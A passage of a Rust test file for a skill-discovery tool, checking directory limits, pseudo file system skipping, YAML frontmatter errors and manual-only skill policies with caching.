/// a skill, or is small and empty, is not.
#[test]
fn a_root_with_no_skill_within_the_limits_is_said_to_be_none() {
    use std::os::unix::fs::symlink;
    let tree = Tree::new();
    let large = tree.folders_without_skills("large", 30, "x");
    std::fs::create_dir_all(tree.user().parent().unwrap()).unwrap();
    symlink(&large, tree.user()).unwrap();
    std::fs::create_dir_all(tree.user_agents().join("empty/category")).unwrap();
    let mut config = tree.config();
    config.limits.max_dirs_per_root = 10;
    let catalog = discover(&config).unwrap();
    let said: Vec<&Diagnostic> = catalog
        .diagnostics
        .iter()
        .filter(|d| d.code == DiagnosticCode::NoSkillWithinLimits)
        .collect();
    assert_eq!(said.len(), 1, "{said:?}");
    assert_eq!(said[0].path.as_deref(), Some(tree.user().as_path()));
    assert!(
        said[0].message.contains(&large.display().to_string()),
        "{}",
        said[0].message
    );

    // With a skill found before the limit, the root is a folder of skills after all.
    tree.skill(&large, "a-first", "a-first");
    let catalog = discover(&config).unwrap();
    assert!(!codes(&catalog).contains(&DiagnosticCode::NoSkillWithinLimits));
}

/// A kernel pseudo file system is never listed: not as a root, not below one. A root that is
/// `/` meets `/proc` and `/sys` and ends within its limits.
#[cfg(target_os = "linux")]
#[test]
fn pseudo_file_systems_are_never_listed() {
    use std::os::unix::fs::symlink;
    let tree = Tree::new();
    std::fs::create_dir_all(tree.user().parent().unwrap()).unwrap();
    symlink("/proc", tree.user()).unwrap();
    std::fs::create_dir_all(tree.user_agents().parent().unwrap()).unwrap();
    symlink("/", tree.user_agents()).unwrap();
    let mut config = tree.config();
    config.limits.max_depth = 1;
    let catalog = discover(&config).unwrap();
    let pseudo: Vec<PathBuf> = catalog
        .diagnostics
        .iter()
        .filter(|d| d.code == DiagnosticCode::PseudoFileSystem)
        .filter_map(|d| d.path.clone())
        .collect();
    assert!(pseudo.contains(&tree.user()), "{pseudo:?}");
    assert!(
        pseudo.contains(&tree.user_agents().join("sys")),
        "{pseudo:?}"
    );
    // `/proc` is the first root already: below `/` it is a folder reached twice.
    assert!(codes(&catalog).contains(&DiagnosticCode::NoSkillWithinLimits));
}

/// A root's walk reads a bounded number of folder entries in all: a folder of more entries is
/// read up to the allowance, what fits is scanned, and the root's walk ends there, said.
#[test]
fn a_root_reads_a_bounded_number_of_entries() {
    let tree = Tree::new();
    let root = tree.user();
    for index in 0..20 {
        tree.skill(&root, &format!("s{index:02}"), &format!("s{index:02}"));
    }
    let config = tree.config();
    let roots = roots::plan(
        &config,
        &settings::Sources::default(),
        false,
        &user_places(&config),
    )
    .roots;
    let limits = skills_types::config::DiscoveryLimits::default();
    let scan = scan::scan_reading(&roots, SymlinkPolicy::WithinRoots, limits, 1_000);
    assert_eq!(scan.found.len(), 20);
    assert!(scan.cut.is_empty());

    let scan = scan::scan_reading(&roots, SymlinkPolicy::WithinRoots, limits, 12);
    assert!(scan.found.len() <= 12, "{}", scan.found.len());
    assert_eq!(scan.cut.len(), 1);
    assert!(
        scan.diagnostics
            .iter()
            .any(|d| d.code == DiagnosticCode::DirectoryLimit)
    );
}

#[test]
fn a_frontmatter_that_does_not_parse_keeps_its_skill_out() {
    let tree = Tree::new();
    let root = tree.user();
    tree.skill(&root, "good", "good");
    for (folder, text) in [
        (
            "bad-yaml",
            "---\nname: bad-yaml\ndescription: [unclosed\n---\nA body.\n",
        ),
        ("a-list", "---\n- name\n- description\n---\nA body.\n"),
    ] {
        std::fs::create_dir_all(root.join(folder)).unwrap();
        std::fs::write(root.join(folder).join("SKILL.md"), text).unwrap();
    }
    for cache in [false, true, true] {
        let mut config = tree.config();
        config.cache = cache;
        let catalog = discover(&config).unwrap();
        assert_eq!(
            names(&catalog),
            [("good", SkillScope::User)],
            "cache {cache}"
        );
        let refused: Vec<_> = catalog
            .diagnostics
            .iter()
            .filter(|diagnostic| diagnostic.code == DiagnosticCode::YamlError)
            .collect();
        assert_eq!(refused.len(), 2, "{:?}", catalog.diagnostics);
        for diagnostic in refused {
            assert_eq!(diagnostic.severity, Severity::Error);
            assert!(
                diagnostic.message.contains("not loaded"),
                "{}",
                diagnostic.message
            );
            assert!(diagnostic.path.is_some());
        }
    }
}

#[test]
fn manual_only_skills_come_from_the_frontmatter_or_the_codex_policy() {
    let tree = Tree::new();
    let root = tree.user();
    let write = |folder: &str, extra: &str| {
        let dir = root.join(folder);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(
            dir.join("SKILL.md"),
            format!("---\nname: {folder}\ndescription: d\n{extra}---\nBody\n"),
        )
        .unwrap();
        dir
    };
    write("offered", "");
    write("claude", "disable-model-invocation: true\n");
    write("claude-yes", "disable-model-invocation: yes\n");
    write("claude-off", "disable-model-invocation: false\n");
    let codex = write("codex", "");
    std::fs::create_dir_all(codex.join("agents")).unwrap();
    std::fs::write(
        codex.join("agents/openai.yaml"),
        "interface:\n  display_name: \"Codex\"\npolicy:\n  allow_implicit_invocation: false\n",
    )
    .unwrap();
    let broken = write("codex-broken", "");
    std::fs::create_dir_all(broken.join("agents")).unwrap();
    std::fs::write(
        broken.join("agents/openai.yaml"),
        "policy:\n  allow_implicit_invocation: nope\n",
    )
    .unwrap();
    let manual = |catalog: &Catalog| -> Vec<String> {
        catalog
            .skills
            .iter()
            .filter(|skill| !skill.offered_to_model())
            .map(|skill| skill.name.clone())
            .collect()
    };
    let mut config = tree.config();
    config.cache = true;
    let cold = discover(&config).unwrap();
    assert_eq!(manual(&cold), ["claude", "claude-yes", "codex"]);
    let ignored = cold
        .skills
        .iter()
        .find(|skill| skill.name == "codex-broken")
        .unwrap();
    assert!(
        ignored
            .diagnostics
            .iter()
            .any(|diagnostic| diagnostic.code == DiagnosticCode::InvalidSidecar),
        "{:?}",
        ignored.diagnostics
    );
    assert_eq!(
        discover(&config).unwrap(),
        cold,
        "the cache keeps the policy"
    );

    // The cache notices the policy file change, appear and go, though the skill folder's
    // own stamp never moves.
    std::fs::write(
        codex.join("agents/openai.yaml"),
        "policy:\n  allow_implicit_invocation: true\n",
    )
    .unwrap();
    assert_eq!(
        manual(&discover(&config).unwrap()),
        ["claude", "claude-yes"]
    );
    let offered = root.join("offered");
    std::fs::create_dir_all(offered.join("agents")).unwrap();
    assert_eq!(
        manual(&discover(&config).unwrap()),
        ["claude", "claude-yes"]
    );
    std::fs::write(
        offered.join("agents/openai.yaml"),
        "policy:\n  allow_implicit_invocation: false\n",
    )
    .unwrap();
    let now = discover(&config).unwrap();
    assert_eq!(manual(&now), ["claude", "claude-yes", "offered"]);
    let mut uncached = tree.config();
    uncached.cache = false;
    assert_eq!(now, discover(&uncached).unwrap());
    std::fs::remove_file(offered.join("agents/openai.yaml")).unwrap();
    assert_eq!(
        manual(&discover(&config).unwrap()),
        ["claude", "claude-yes"]
    );
}
